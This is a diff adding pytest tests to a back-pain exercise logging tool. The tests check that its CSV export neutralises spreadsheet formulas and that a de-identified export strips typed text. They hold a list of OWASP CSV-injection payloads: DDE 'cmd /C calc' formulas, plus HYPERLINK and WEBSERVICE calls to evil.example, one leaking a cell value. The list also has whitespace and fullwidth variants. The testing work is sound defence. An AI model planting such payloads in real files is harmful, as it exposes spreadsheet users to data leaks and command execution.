@@ -3,14 +3,22 @@
 from __future__ import annotations
 
 import csv
+import json
+import os
+import re
+import shutil
 import stat
+import subprocess
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pandas as pd
 import pytest
 
 from backrelief_analysis.export import (
+    DEIDENTIFIED_COLUMNS,
     check_period,
+    deidentify_export,
     export_sessions,
     neutralise_cells,
     write_export,
@@ -160,3 +168,207 @@ def test_empty_log_exports_a_header_only(tmp_path: Path) -> None:
     out = write_export(export_sessions(load_log(folder)), tmp_path / "x.csv")
     assert out.read_text(encoding="utf-8-sig").splitlines()[0].startswith("kind,date,time")
     assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 1
+
+
+def test_the_export_reads_the_same_session_scores_as_the_analysis(tmp_path: Path) -> None:
+    # s1 has two before scores, 7 then 5 (a correction): the last counts in the export, as in
+    # the analysis (pain.session_effects: after 4 minus before 5 = -1)
+    from backrelief_analysis.pain import session_effects
+
+    folder = write_log(tmp_path / "log", [block("s1", "09-01", "08:00", "pelvic_tilt", "", 10,
+                                                "08:02")], [
+        "2026-09-01T07:58:00+01:00,7,before_session,s1,,\n",
+        "2026-09-01T07:59:00+01:00,5,before_session,s1,,\n",
+        "2026-09-01T08:13:00+01:00,4,after_session,s1,no,\n",
+    ])
+    log = load_log(folder)
+    row = export_sessions(log).iloc[0]
+    assert (row["pain_before"], row["pain_after"]) == (5, 4)
+    assert session_effects(log.pain, log.exercise)["before"].tolist() == [5.0]
+
+
+def test_rows_in_a_week_the_period_cuts_are_marked_part(two_sessions: Path) -> None:
+    # the log runs Tue 1 to Thu 3 September 2026 (ISO week 36, Mon 31 Aug to Sun 6 Sep): the
+    # whole export lies in a week it cuts; exported 31 Aug to 6 Sep, the week is whole
+    log = load_log(two_sessions)
+    assert list(export_sessions(log)["part_week"]) == ["yes", "yes", "yes"]
+    assert list(export_sessions(log, start="2026-08-31", end="2026-09-06")["part_week"]) == [
+        "", "", ""]
+
+
+# --- hostile input, read back by a real spreadsheet ---------------------------------------------
+
+SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
+# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, no column formats,
+# English (US), quoted fields not forced to text, detect special numbers, -, -, "trim spaces"
+# on, -, "evaluate formulas" on: the settings under which a typed formula is most alive
+CALC_CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,,true"
+TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+# payloads from OWASP's "CSV Injection" page, with the variants a trimming import brings alive
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to fix")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+9+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://evil.example/")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    " =HYPERLINK(L2)",
+    '   =WEBSERVICE("http://evil.example/")',
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    " +1+1",
+    " -1+1",
+    " @SUM(1;1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1;1)",
+]
+
+# the log store cannot read back a field holding a bare carriage return (a limit of the store,
+# not of the export): those payloads are checked on the plan's exercise name and on cells
+LOGGED_PAYLOADS = [payload for payload in OWASP_PAYLOADS if "\r" not in payload]
+
+
+Cell = tuple[str | None, str | None, str]
+
+
+def calc_rows(csv_file: Path, tmp_path: Path) -> list[list[Cell]]:
+    """Open ``csv_file`` in LibreOffice Calc (headless, spaces trimmed, formulas evaluated) and
+    return its rows, each cell as (formula, value type, shown text)."""
+    if not Path(SOFFICE).exists():
+        reason = "LibreOffice is missing: install it with `apt-get install libreoffice-calc`"
+        if os.environ.get("CI") == "true":
+            pytest.fail(reason)
+        pytest.skip(reason)
+    out = tmp_path / "calc"
+    # a profile of its own: runs as root, and beside other runs, without a shared lock
+    profile = (tmp_path / "lo-profile").as_uri()
+    subprocess.run(
+        [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--norestore",
+         f"--infilter={CALC_CSV_IMPORT}", "--convert-to", "fods", "--outdir", str(out),
+         str(csv_file)],
+        check=True, capture_output=True, timeout=180,
+    )  # fmt: skip
+    tree = ElementTree.parse(out / (csv_file.stem + ".fods"))
+    rows = []
+    for row in tree.iter(f"{{{TABLE}}}table-row"):
+        cells = []
+        for cell in row.iter(f"{{{TABLE}}}table-cell"):
+            shown = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
+            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
+            cells += [(cell.get(f"{{{TABLE}}}formula"), cell.get(f"{{{OFFICE}}}value-type"),
+                       shown)] * min(repeat, 64)
+        rows.append(cells)
+    return rows
+
+
+def hostile_everywhere(folder: Path) -> tuple[Path, Path]:
+    """A log and a plan with a payload in every free-text field: notes of check-ins and of
+    sessions, session ids, exercise ids the plan does not know, and the plan's exercise name."""
+    exercise = [EXERCISE_HEADER.strip().split(",")]
+    pain = [PAIN_HEADER.strip().split(",")]
+    for index, payload in enumerate(LOGGED_PAYLOADS, start=1):
+        day = f"2026-09-{index:02d}"
+        pain.append([f"{day}T20:00:00+01:00", str(index % 11), "check_in", "", "", payload])
+        session = payload if index % 2 else f"s{index}"
+        exercise.append([session, f"{day}T08:00:00+01:00", "pelvic_tilt", "", "10", "10", "5",
+                         "5.0", "completed", f"{day}T08:02:00+01:00"])
+        exercise.append([session, f"{day}T08:00:00+01:00", payload, "", "10", "7", "5",
+                         "5.0", "completed", f"{day}T08:04:00+01:00"])
+        pain.append([f"{day}T08:05:00+01:00", "3", "after_session", session, "no", payload])
+    folder.mkdir(parents=True)
+    for name, rows in (("exercise_log.csv", exercise), ("pain_log.csv", pain)):
+        with (folder / name).open("w", encoding="utf-8", newline="") as file:
+            csv.writer(file, lineterminator="\n").writerows(rows)
+    plan = folder.parent / "plan.toml"
+    hostile_name = json.dumps(" =HYPERLINK(\"http://evil.example\",\"Pelvic tilt\")")
+    plan.write_text(
+        f'name = "Plan"\ntarget_sessions_per_week = 3\n[[exercise]]\nid = "pelvic_tilt"\n'
+        f"name = {hostile_name}\ninstructions = \"Tilt.\"\nhold_s = 5\nreps = 10\n",
+        encoding="utf-8")
+    return folder, plan
+
+
+def test_no_payload_becomes_a_formula_in_libreoffice_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    folder, plan_file = hostile_everywhere(tmp_path / "log")
+    log, plan = load_log(folder), load_plan(plan_file)
+    rows = export_sessions(log, plan)
+    # every payload reached a free-text cell unchanged before neutralising
+    text = "\n".join(rows[["exercises", "note", "session_id"]].to_numpy().ravel())
+    assert all(payload in text for payload in LOGGED_PAYLOADS)
+    out = write_export(rows, tmp_path / "export.csv")
+    # the same rows written as a naive export: the check must see formulas there
+    naive = tmp_path / "naive.csv"
+    rows.to_csv(naive, index=False)
+
+    sheet = calc_rows(out, tmp_path / "safe")
+    assert [cell for row in sheet for cell in row if cell[0]] == []
+    naive_sheet = calc_rows(naive, tmp_path / "naive")
+    assert len([cell for row in naive_sheet for cell in row if cell[0]]) >= 10
+    # pain scores and rep counts are still numbers in the spreadsheet
+    header = [cell[2] for cell in sheet[0]]
+    check_ins = [row for row in sheet[1:] if row[0][2] == "check_in"]
+    pain = [row[header.index("pain_check_in")] for row in check_ins]
+    assert [cell[1] for cell in pain] == ["float"] * len(LOGGED_PAYLOADS)
+    assert [cell[2] for cell in pain[:3]] == ["1", "2", "3"]
+    sessions = [row for row in sheet[1:] if row[0][2] == "session"]
+    assert {row[header.index("reps_done")][1:] for row in sessions} == {("float", "17")}
+
+
+def test_every_payload_as_a_cell_stays_text_in_libreoffice(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"note": OWASP_PAYLOADS, "pain": range(len(OWASP_PAYLOADS))})
+    sheet = calc_rows(write_export(frame, tmp_path / "cells.csv"), tmp_path)
+    assert [cell for row in sheet for cell in row if cell[0]] == []
+    assert [row[0][1] for row in sheet[1:]] == ["string"] * len(OWASP_PAYLOADS)
+    assert [row[1][1:] for row in sheet[1:4]] == [("float", "0"), ("float", "1"), ("float", "2")]
+
+
+def test_cells_with_a_formula_sign_after_blanks_are_neutralised() -> None:
+    notes = ["  =1+1", "\u00a0@x", "\uff1d1", "\nx", "-", "x =1", "1-2", "fine"]
+    safe = neutralise_cells(pd.DataFrame({"note": notes}))
+    expected = ["'  =1+1", "'\u00a0@x", "'\uff1d1", "'\nx", "'-", "x =1", "1-2", "fine"]
+    assert safe["note"].tolist() == expected
+
+
+# --- de-identified export -----------------------------------------------------------------------
+
+
+def test_deidentified_export_has_a_code_days_and_no_typed_text(tmp_path: Path) -> None:
+    folder, plan_file = hostile_everywhere(tmp_path / "log")
+    log, plan = load_log(folder), load_plan(plan_file)
+    out = write_export(deidentify_export(log, plan, code="KX-7"), tmp_path / "deid.csv")
+    raw = out.read_bytes().decode("utf-8-sig")
+    back = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
+    assert list(back.columns) == list(DEIDENTIFIED_COLUMNS)
+    assert set(back["patient_code"]) == {"KX-7"}
+    assert back["day"].iloc[0] == "day 1"
+    assert back["day"].iloc[-1] == f"day {len(LOGGED_PAYLOADS)}"
+    assert not re.search(r"\d{4}-\d{2}-\d{2}|2026", raw)
+    for payload in LOGGED_PAYLOADS:  # notes, session ids and unknown exercise ids
+        assert payload.strip() not in raw
+    # the plan's exercise name is kept (neutralised), anything else is "not in the plan"
+    first = back.loc[back["kind"] == "session"].iloc[0]
+    assert first["exercises"].startswith("'=HYPERLINK")
+    assert "(exercise not in the plan) 7/10" in first["exercises"]
+
+
+@pytest.mark.parametrize("code", ["Sam Smith", "", "x" * 21, "=1+1", "-P1"])
+def test_deidentified_export_refuses_a_code_that_could_hold_a_name(
+    two_sessions: Path, code: str
+) -> None:
+    with pytest.raises(ValueError, match="patient code"):
+        deidentify_export(load_log(two_sessions), load_plan(), code=code)
+
+
+def test_deidentified_days_count_from_the_chosen_start(two_sessions: Path) -> None:
+    rows = deidentify_export(load_log(two_sessions), load_plan(), code="P1", start="2026-09-02")
+    assert rows["day"].tolist() == ["day 1", "day 2"]
